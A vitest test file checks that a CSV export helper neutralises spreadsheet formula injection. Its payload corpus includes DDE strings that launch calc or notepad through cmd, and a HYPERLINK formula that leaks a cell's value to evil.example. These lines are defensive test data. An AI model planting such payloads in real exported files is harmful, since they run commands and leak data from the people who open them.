import { describe, expect, it } from 'vitest';
import { csvCell, isDangerous } from './csv-safety.ts';
import { parseCsv } from './testing/fixture.ts';

/**
 * The formula-injection corpus: OWASP's payloads and their variants. Each must
 * come back from a CSV reader as one cell that starts with "'" (never with a
 * trigger), exactly the payload after that quote.
 */
const CORPUS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+1',
  "+cmd|' /C notepad'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  ' =1+1',
  '  +1',
  '=A1;B1',
  '=1+1\n=2+2',
  '-',
  '=',
];

describe('CSV formula injection', () => {
  it.each(CORPUS)('neutralizes %j in both profiles', (payload) => {
    for (const delimiter of [',', ';']) {
      const cell = csvCell(payload, delimiter);
      expect(cell.startsWith('"\'')).toBe(true);
      const [row] = parseCsv(`${cell}${delimiter}next\n`, delimiter);
      expect(row).toEqual([`'${payload}`, 'next']);
    }
  });

  it('leaves safe text alone, quoting only what RFC 4180 needs', () => {
    expect(csvCell('ACME CORP', ',')).toBe('ACME CORP');
    expect(csvCell('a,b', ',')).toBe('"a,b"');
    expect(csvCell('a,b', ';')).toBe('a,b');
    expect(csvCell('say "hi"', ',')).toBe('"say ""hi"""');
    expect(csvCell("it's", ',')).toBe("it's");
    expect(csvCell('12.50', ',')).toBe('12.50');
    expect(csvCell(null, ',')).toBe('');
  });

  it('exempts only strictly numeric computed cells, and only when the profile says so (machine)', () => {
    // Excel profile: our own negative delta is neutralized like any other cell.
    expect(csvCell('-12.50', ',', { computedNumber: true, exemptNumbers: false })).toBe(`"'-12.50"`);
    // Machine profile: a strict number we computed passes as is ...
    expect(csvCell('-12.50', ',', { computedNumber: true, exemptNumbers: true })).toBe('-12.50');
    expect(csvCell('-3', ',', { computedNumber: true, exemptNumbers: true })).toBe('-3');
    // ... but never something that only starts like one, and never input text.
    expect(csvCell('-1+1', ',', { computedNumber: true, exemptNumbers: true })).toBe(`"'-1+1"`);
    expect(csvCell('-12.50', ',', { computedNumber: false, exemptNumbers: true })).toBe(`"'-12.50"`);
  });

  it('treats triggers after leading spaces as dangerous, and nothing else', () => {
    expect(isDangerous(' =x')).toBe(true);
    expect(isDangerous('a=b')).toBe(false);
    expect(isDangerous('')).toBe(false);
  });
});
